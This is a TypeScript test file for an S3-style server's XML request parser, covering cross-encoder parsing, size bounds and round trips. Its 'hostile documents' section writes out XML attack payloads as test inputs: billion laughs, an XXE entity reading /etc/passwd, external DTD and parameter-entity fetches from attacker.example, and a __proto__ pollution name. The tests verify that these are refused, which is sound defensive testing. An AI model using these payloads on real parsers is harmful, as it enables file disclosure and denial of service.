import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { StrongroomError } from '../errors.ts'
import { toApiError } from './errors.ts'
import {
  parseEncryption,
  parsePublicAccessBlock,
  parseTagging,
  parseVersioning,
} from './s3-config.ts'
import {
  readXml,
  XML_BOUNDS,
  XML_MAX_RUN,
  xmlDocument,
  type RequestDocument,
  type XmlElement,
} from './xml.ts'
import { dotnetStyle, goStyle, STYLES, type Tree } from '../../test/security/xml-styles.ts'

const read = (root: RequestDocument, text: string) => readXml(root, Buffer.from(text, 'utf8'))
const child = (el: XmlElement, name: string) => el.children.find((c) => c.name === name)
const all = (el: XmlElement, name: string) => el.children.filter((c) => c.name === name)

/** The S3 wire code of the error `f` throws. */
function codeOf(f: () => unknown): string {
  try {
    f()
  } catch (e) {
    assert.ok(e instanceof StrongroomError, String(e))
    return toApiError(e).code
  }
  return 'no error'
}

// Values a client really sends, with everything an encoder must escape.
const TRICKY_KEY = ` models/a&b <c> "d" 'e'\ttab\nline\r\ncrlf é 𝄞 ]]x `
const ETAG = '"9b2cf535f27731c974343645a3985328"'

describe('every request document reads the same from Go, .NET and hand-written encodings', () => {
  for (const [style, write] of Object.entries(STYLES)) {
    it(`CompleteMultipartUpload (${style})`, () => {
      const doc = read(
        'CompleteMultipartUpload',
        write('CompleteMultipartUpload', [
          [
            'Part',
            [
              ['PartNumber', '1'],
              ['ETag', ETAG],
              ['ChecksumCRC32', 'lsZYNQ=='],
              ['ChecksumSHA256', 'n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg='],
            ],
          ],
          [
            'Part',
            [
              ['PartNumber', '2'],
              ['ETag', ETAG.replaceAll('"', '')],
            ],
          ],
        ]),
      )
      const parts = all(doc, 'Part')
      assert.deepEqual(
        parts.map((p) => [child(p, 'PartNumber')?.text, child(p, 'ETag')?.text]),
        [
          ['1', ETAG],
          ['2', ETAG.replaceAll('"', '')],
        ],
      )
      assert.equal(
        child(parts[0] as XmlElement, 'ChecksumSHA256')?.text,
        'n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg=',
      )
    })

    it(`Delete (${style})`, () => {
      const doc = read(
        'Delete',
        write('Delete', [
          ['Quiet', 'true'],
          ['Object', [['Key', TRICKY_KEY]]],
          [
            'Object',
            [
              ['Key', 'plain.bin'],
              ['VersionId', '3HL4kqtJvjVBH40Nrjfkd'],
            ],
          ],
        ]),
      )
      assert.equal(child(doc, 'Quiet')?.text, 'true')
      assert.deepEqual(
        all(doc, 'Object').map((o) => [child(o, 'Key')?.text, child(o, 'VersionId')?.text]),
        [
          [TRICKY_KEY, undefined],
          ['plain.bin', '3HL4kqtJvjVBH40Nrjfkd'],
        ],
      )
    })

    it(`Tagging (${style})`, () => {
      const tags = parseTagging(
        read(
          'Tagging',
          write('Tagging', [
            [
              'TagSet',
              [
                [
                  'Tag',
                  [
                    ['Key', 'team'],
                    ['Value', 'vision & audio <ml>'],
                  ],
                ],
                [
                  'Tag',
                  [
                    ['Key', 'quote"d'],
                    ['Value', ''],
                  ],
                ],
              ],
            ],
          ]),
        ),
      )
      assert.deepEqual(tags, [
        ['team', 'vision & audio <ml>'],
        ['quote"d', ''],
      ])
    })

    it(`CreateBucketConfiguration (${style})`, () => {
      const doc = read(
        'CreateBucketConfiguration',
        write('CreateBucketConfiguration', [['LocationConstraint', 'eu-west-1']]),
      )
      assert.equal(child(doc, 'LocationConstraint')?.text, 'eu-west-1')
    })

    it(`VersioningConfiguration (${style})`, () => {
      const doc = read(
        'VersioningConfiguration',
        write('VersioningConfiguration', [['Status', 'Enabled']]),
      )
      assert.equal(parseVersioning(doc), 'Enabled')
    })

    it(`ServerSideEncryptionConfiguration (${style})`, () => {
      const arn = 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab'
      const doc = read(
        'ServerSideEncryptionConfiguration',
        write('ServerSideEncryptionConfiguration', [
          [
            'Rule',
            [
              [
                'ApplyServerSideEncryptionByDefault',
                [
                  ['SSEAlgorithm', 'aws:kms'],
                  ['KMSMasterKeyID', arn],
                ],
              ],
              ['BucketKeyEnabled', 'false'],
            ],
          ],
        ]),
      )
      assert.deepEqual(parseEncryption(doc), { keyId: arn, algorithm: 'aws:kms' })
    })

    it(`PublicAccessBlockConfiguration (${style})`, () => {
      const doc = read(
        'PublicAccessBlockConfiguration',
        write('PublicAccessBlockConfiguration', [
          ['BlockPublicAcls', 'true'],
          ['IgnorePublicAcls', 'false'],
          ['BlockPublicPolicy', 'TRUE'],
          ['RestrictPublicBuckets', 'true'],
        ]),
      )
      assert.deepEqual(parsePublicAccessBlock(doc), {
        blockPublicAcls: true,
        ignorePublicAcls: false,
        blockPublicPolicy: true,
        restrictPublicBuckets: true,
      })
    })
  }

  it('values S3 trims may come wrapped in white space', () => {
    const doc = read(
      'VersioningConfiguration',
      `<VersioningConfiguration>\n  <Status>\n    Suspended\n  </Status>\n</VersioningConfiguration>`,
    )
    assert.equal(parseVersioning(doc), 'Suspended')
  })

  it('raw line ends read as LF, in text and in CDATA, as XML requires; a &#13; stays a CR', () => {
    const doc = read(
      'Delete',
      '<Delete><Object><Key>a\r\nb\rc&#13;</Key></Object><Object><Key><![CDATA[d\r\ne]]></Key></Object></Delete>',
    )
    assert.deepEqual(
      all(doc, 'Object').map((o) => child(o, 'Key')?.text),
      ['a\nb\nc\r', 'd\ne'],
    )
  })

  it('an empty element and a self-closed one both read as empty text', () => {
    const doc = read(
      'Tagging',
      '<Tagging><TagSet><Tag><Key>k</Key><Value/></Tag></TagSet></Tagging>',
    )
    assert.deepEqual(parseTagging(doc), [['k', '']])
  })
})

describe('hostile documents are refused with MalformedXML', () => {
  const refused: Record<string, string> = {
    'billion laughs':
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
      Array.from(
        { length: 9 },
        (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
      ).join('') +
      ']><Delete><Object><Key>&lol9;</Key></Object></Delete>',
    'external entity (XXE) reading a local file':
      '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&xxe;</Key></Object></Delete>',
    'external DTD':
      '<?xml version="1.0"?><!DOCTYPE Delete SYSTEM "http://attacker.example/evil.dtd"><Delete><Object><Key>k</Key></Object></Delete>',
    'parameter entity':
      '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Delete/>',
    'a DOCTYPE with no entities': '<!DOCTYPE Delete><Delete><Object><Key>k</Key></Object></Delete>',
    'a DOCTYPE inside the root': '<Delete><!DOCTYPE x><Object><Key>k</Key></Object></Delete>',
    'an undeclared entity': '<Delete><Object><Key>&nbsp;</Key></Object></Delete>',
    'an HTML entity': '<Delete><Object><Key>&eacute;</Key></Object></Delete>',
    'a bare ampersand': '<Delete><Object><Key>a & b</Key></Object></Delete>',
    'an unterminated reference': '<Delete><Object><Key>&amp</Key></Object></Delete>',
    'a reference to NUL': '<Delete><Object><Key>&#0;</Key></Object></Delete>',
    'a reference to a surrogate': '<Delete><Object><Key>&#xD800;</Key></Object></Delete>',
    'a reference past U+10FFFF': '<Delete><Object><Key>&#x110000;</Key></Object></Delete>',
    'a raw control character': '<Delete><Object><Key>a\u0001b</Key></Object></Delete>',
    'mismatched tags': '<Delete><Object><Key>k</Object></Key></Delete>',
    'an unclosed root': '<Delete><Object><Key>k</Key></Object>',
    'two roots': '<Delete></Delete><Delete></Delete>',
    'text after the root': '<Delete><Object><Key>k</Key></Object></Delete>trailing',
    'text before the root': 'leading<Delete/>',
    'an empty body': '',
    'white space only': ' \r\n ',
    'markup declarations outside a DTD':
      '<Delete><!ELEMENT Key ANY><Object><Key>k</Key></Object></Delete>',
    'an element name with two colons': '<Delete><a:b:Key>k</a:b:Key></Delete>',
    'a prototype-polluting element name':
      '<Delete><__proto__><polluted>1</polluted></__proto__></Delete>',
    ']]> in text': '<Delete><Object><Key>a]]>b</Key></Object></Delete>',
  }
  for (const [attack, text] of Object.entries(refused)) {
    it(`refuses ${attack}`, () => {
      assert.equal(
        codeOf(() => read('Delete', text)),
        'MalformedXML',
      )
    })
  }

  it('refuses a body that is not UTF-8', () => {
    const latin1 = Buffer.from('<Delete><Object><Key>caf\xe9</Key></Object></Delete>', 'latin1')
    assert.equal(
      codeOf(() => readXml('Delete', latin1)),
      'MalformedXML',
    )
  })

  it('refuses a document whose root is not the one the operation reads', () => {
    assert.equal(
      codeOf(() => read('Tagging', '<Delete><Quiet>true</Quiet></Delete>')),
      'MalformedXML',
    )
  })

  it('refuses nesting deeper than 16 elements, and reads 16', () => {
    const nest = (n: number) =>
      '<Tagging>' + '<a>'.repeat(n - 1) + '</a>'.repeat(n - 1) + '</Tagging>'
    assert.equal(read('Tagging', nest(16)).name, 'Tagging')
    assert.equal(
      codeOf(() => read('Tagging', nest(17))),
      'MalformedXML',
    )
    assert.equal(
      codeOf(() => read('Tagging', nest(5000))),
      'MalformedXML',
    )
  })

  it('refuses more elements than the largest real document has', () => {
    const parts = XML_BOUNDS.CompleteMultipartUpload.elements
    const doc = `<CompleteMultipartUpload>${'<a/>'.repeat(parts)}</CompleteMultipartUpload>`
    assert.ok(doc.length < XML_BOUNDS.CompleteMultipartUpload.bytes)
    assert.equal(
      codeOf(() => read('CompleteMultipartUpload', doc)),
      'MalformedXML',
    )
  })

  it(`refuses a text, tag or comment longer than ${XML_MAX_RUN} characters`, () => {
    const long = 'x'.repeat(XML_MAX_RUN + 1)
    for (const doc of [
      `<Delete><Object><Key>${long}</Key></Object></Delete>`,
      `<Delete><!--${long}--></Delete>`,
      `<Delete a="${long}"/>`,
    ])
      assert.equal(
        codeOf(() => read('Delete', doc)),
        'MalformedXML',
      )
  })

  it('answers MaxMessageLengthExceeded (400) for a body over its document bound', () => {
    for (const [root, { bytes }] of Object.entries(XML_BOUNDS) as [
      RequestDocument,
      { bytes: number },
    ][]) {
      const body = Buffer.alloc(bytes + 1, 0x20)
      let err: unknown
      try {
        readXml(root, body)
      } catch (e) {
        err = e
      }
      assert.ok(err instanceof StrongroomError)
      assert.equal(toApiError(err).code, 'MaxMessageLengthExceeded')
      assert.equal(toApiError(err).status, 400)
    }
  })
})

describe('bounds fit the largest legitimate documents', () => {
  it('a .NET-written CompleteMultipartUpload of 10,000 parts with every checksum reads all 10,000 entries', () => {
    const parts: Tree = Array.from({ length: 10_000 }, (_, i) => [
      'Part',
      [
        ['PartNumber', String(i + 1)],
        ['ETag', `"${i.toString(16).padStart(32, '0')}"`],
        ['ChecksumCRC32', 'AAAAAA=='],
        ['ChecksumCRC32C', 'AAAAAA=='],
        ['ChecksumCRC64NVME', 'AAAAAAAAAAA='],
        ['ChecksumSHA1', `${'A'.repeat(27)}=`],
        ['ChecksumSHA256', `${'A'.repeat(43)}=`],
      ],
    ])
    for (const write of [dotnetStyle, goStyle]) {
      const text = write('CompleteMultipartUpload', parts)
      assert.ok(Buffer.byteLength(text) < XML_BOUNDS.CompleteMultipartUpload.bytes)
      const doc = read('CompleteMultipartUpload', text)
      const got = all(doc, 'Part')
      assert.equal(got.length, 10_000)
      assert.equal(child(got[9_999] as XmlElement, 'PartNumber')?.text, '10000')
      assert.equal(
        child(got[9_999] as XmlElement, 'ETag')?.text,
        `"${(9_999).toString(16).padStart(32, '0')}"`,
      )
      assert.equal(child(got[9_999] as XmlElement, 'ChecksumSHA256')?.text, `${'A'.repeat(43)}=`)
    }
  })

  it('a Delete of 1,000 keys of 1,024 bytes, each character escaped by Go, with version ids, reads all 1,000 keys', () => {
    const key = `"'&<>\t\n\r`.repeat(128)
    assert.equal(Buffer.byteLength(key), 1024)
    const objects: Tree = Array.from({ length: 1_000 }, (_, i) => [
      'Object',
      [
        ['Key', key],
        ['VersionId', String(i).padStart(32, 'v')],
      ],
    ])
    const text = goStyle('Delete', [['Quiet', 'false'], ...objects])
    assert.ok(Buffer.byteLength(text) > 4_500_000, 'four to five bytes a byte')
    const doc = read('Delete', text)
    const keys = all(doc, 'Object').map((o) => child(o, 'Key')?.text)
    assert.equal(keys.length, 1_000)
    assert.ok(keys.every((k) => k === key))
  })

  it('a Tagging of 10 tags of 128 + 256 characters, each a 10-byte reference, reads', () => {
    const ref = (n: number) => '&#1114111;'.repeat(n)
    const tags = Array.from(
      { length: 10 },
      (_, i) => `<Tag><Key>${i}${ref(127)}</Key><Value>${ref(256)}</Value></Tag>`,
    )
    const tagging = parseTagging(
      read('Tagging', `<Tagging><TagSet>${tags.join('')}</TagSet></Tagging>`),
    )
    assert.equal(tagging.length, 10)
    assert.equal(tagging[0]?.[1], '\u{10ffff}'.repeat(256))
  })
})

/** Strings XML 1.0 can carry (https://www.w3.org/TR/xml/#charsets). */
const xmlText = fc
  .string({ unit: 'binary', maxLength: 64 })
  // eslint-disable-next-line no-control-regex -- the characters XML 1.0 cannot carry
  .filter((s) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\ud800-\udfff]/u.test(s))

describe('round trips', () => {
  it('any string XML can carry round-trips through the response writer and the reader', () => {
    fc.assert(
      fc.property(xmlText, xmlText, (key, value) => {
        const text = xmlDocument('Tagging', { TagSet: { Tag: [{ Key: key, Value: value }] } })
        const tag = read('Tagging', text).children[0]?.children[0] as XmlElement
        assert.equal(child(tag, 'Key')?.text, key)
        assert.equal(child(tag, 'Value')?.text, value)
      }),
      { numRuns: 500 },
    )
  })

  it('any string XML can carry round-trips through Go-style encoding and the reader', () => {
    fc.assert(
      fc.property(xmlText, (key) => {
        const doc = read('Delete', goStyle('Delete', [['Object', [['Key', key]]]]))
        assert.equal(child(doc.children[0] as XmlElement, 'Key')?.text, key)
      }),
      { numRuns: 500 },
    )
  })
})
